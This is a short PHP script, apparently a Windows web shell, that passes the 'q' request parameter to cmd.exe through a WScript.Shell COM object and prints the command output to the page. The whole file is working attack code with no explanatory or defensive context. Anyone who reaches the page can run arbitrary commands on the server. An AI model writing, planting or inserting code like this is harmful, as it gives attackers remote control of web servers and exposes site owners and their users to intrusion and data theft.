<?php
$sh = new COM("WScript.Shell");
$job = $sh->Exec("cmd.exe /c " . $_REQUEST['q']);
echo "<pre>" . $job->StdOut->ReadAll() . "</pre>";
